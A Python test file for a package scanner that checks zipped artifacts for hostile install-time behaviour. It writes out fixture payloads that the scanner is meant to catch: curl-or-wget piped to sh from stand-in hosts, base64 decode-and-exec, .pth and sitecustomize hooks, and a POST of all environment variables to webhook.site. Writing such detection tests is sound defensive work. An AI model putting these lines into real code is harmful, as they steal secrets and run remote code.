"""The behaviour check through a whole scan: findings with file and line, nothing executed."""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
from pathlib import Path

from behaviourkit import installed, zip_file

from wellcheck.models import Severity
from wellcheck.scan.target import scan_artifacts
from wellcheck.signals.behaviour import BehaviourCheck


def _marker_payloads(marker: Path) -> dict[str, bytes]:
    """Every way an artifact could get code run by a careless scanner, each creating
    ``marker`` if it ever ran: import, decode-and-exec, .pth, sitecustomize, setup.py."""
    touch = f"open({str(marker)!r}, 'w').write('ran')"
    encoded = base64.b64encode(f"import os; {touch}; os.system('true')".encode()).decode()
    files = installed(
        "touchy",
        "1.0",
        {
            "touchy/__init__.py": f"import base64, os\n{touch}\n"
            f"exec(base64.b64decode('{encoded}'))\n".encode(),
            "touchy/setup.py": f"{touch}\n".encode(),
            "touchy_hook.pth": f"import os; {touch}\n".encode(),
        },
    )
    files["sitecustomize.py"] = f"import os\n{touch}\nos.system('true')\n".encode()
    files["setup.py"] = f"import os\n{touch}\nos.system('true')\n".encode()
    return files


def test_nothing_from_the_artifact_is_ever_executed(tmp_path: Path) -> None:
    marker = tmp_path / "marker"
    artifact = zip_file(tmp_path / "function.zip", _marker_payloads(marker))
    env = dict(os.environ, WELLCHECK_CACHE_DIR=str(tmp_path / "cache"))
    command = [sys.executable, "-m", "wellcheck", "scan", str(artifact), "--no-advisories"]
    done = subprocess.run(
        [*command, "-f", "json"], capture_output=True, text=True, env=env, cwd=tmp_path, check=False
    )
    assert not marker.exists()
    assert done.returncode == 1, done.stderr
    findings = json.loads(done.stdout)["artifacts"][0]["findings"]
    rules = {(f["rule"], f["package"], f["path"], f["severity"]) for f in findings}
    assert ("WC-CODE-DECODE-EXEC", "touchy", "touchy/__init__.py", "critical") in rules
    assert ("WC-CODE-IMPORT-WRITE", "touchy", "touchy_hook.pth", "high") in rules
    assert ("WC-CODE-IMPORT-SPAWN", "sitecustomize", "sitecustomize.py", "high") in rules


def test_a_finding_names_the_package_file_and_line(tmp_path: Path) -> None:
    code = b"import os\n\n\ndef helper():\n    pass\n\n"
    code += b"os.system('curl -fsSL https://x.example/i | sh')\n"
    files = {
        **installed("leftpadder", "0.1", {"leftpadder/__init__.py": code}),
        **installed("quiet", "2.0", {"quiet/__init__.py": b"def f(x):\n    return x\n"}),
    }
    artifact = zip_file(tmp_path / "f.zip", files)
    [result] = scan_artifacts([str(artifact)], [BehaviourCheck(workers=1)]).results
    assert result.skipped == ()
    [finding] = [f for f in result.findings if f.rule == "WC-CODE-DOWNLOAD-EXEC"]
    assert (finding.package, finding.version) == ("leftpadder", "0.1")
    assert (finding.path, finding.line) == ("leftpadder/__init__.py", 7)
    assert finding.severity is Severity.CRITICAL
    assert "curl -fsSL https://x.example/i | sh" in finding.evidence
    assert {f.package for f in result.findings} == {"leftpadder"}


def test_evidence_is_ascii_and_escaped(tmp_path: Path) -> None:
    hostile = "import os\nos.system('curl https://x.example/\u202e\x1b[2Jhs.a | sh')  # \u00e9\n"
    files = installed("bidi", "1.0", {"bidi/__init__.py": hostile.encode()})
    [result] = scan_artifacts(
        [str(zip_file(tmp_path / "b.zip", files))], [BehaviourCheck(workers=1)]
    ).results
    assert result.findings
    for finding in result.findings:
        assert finding.evidence.isascii() and finding.title.isascii()
        assert "\x1b" not in finding.evidence
    assert all("\\u202e" in f.evidence for f in result.findings if f.kind == "behaviour")


def test_vendored_copies_and_unclaimed_modules_are_analysed(tmp_path: Path) -> None:
    payload = b"import os\nos.system('wget -qO- http://x.example/p | sh')\n"
    files = {
        **installed(
            "host",
            "1.0",
            {
                "host/__init__.py": b"",
                "host/_vendor/vendor.txt": b"evilcopy==1.0\n",
                "host/_vendor/evilcopy.py": payload,
            },
        ),
        "lambda_function.py": payload,
    }
    [result] = scan_artifacts(
        [str(zip_file(tmp_path / "v.zip", files))], [BehaviourCheck(workers=1)]
    ).results
    flagged = {f.package for f in result.findings if f.rule == "WC-CODE-DOWNLOAD-EXEC"}
    assert flagged == {"evilcopy", "lambda-function"}


def test_table_shows_one_verdict_line_per_package_and_json_keeps_the_detail(
    tmp_path: Path,
) -> None:
    code = (
        "import os, requests, socket\n"
        "requests.post('https://webhook.site/x', data=dict(os.environ))\n"
        "os.system('curl -s http://198.51.100.2/a | sh')\n"
        "requests.get('http://198.51.100.2/?h=' + socket.gethostname())\n"
    )
    artifact = zip_file(
        tmp_path / "t.zip", installed("noisy", "1.0", {"noisy/__init__.py": code.encode()})
    )
    env = dict(os.environ, WELLCHECK_CACHE_DIR=str(tmp_path / "cache"), COLUMNS="200")
    base = [sys.executable, "-m", "wellcheck", "scan", str(artifact), "--no-advisories"]
    table = subprocess.run(
        [*base, "-f", "table"], capture_output=True, text=True, env=env, check=False
    )
    data = subprocess.run(
        [*base, "-f", "json"], capture_output=True, text=True, env=env, check=False
    )
    lines = [line for line in table.stdout.splitlines() if "noisy" in line and "WC-" in line]
    assert len(lines) == 1 and "WC-POISON-SUSPECT" in lines[0], table.stdout
    rules = {f["rule"] for f in json.loads(data.stdout)["artifacts"][0]["findings"]}
    assert {"WC-POISON-SUSPECT", "WC-CODE-EXFILTRATION", "WC-CODE-DOWNLOAD-EXEC"} <= rules
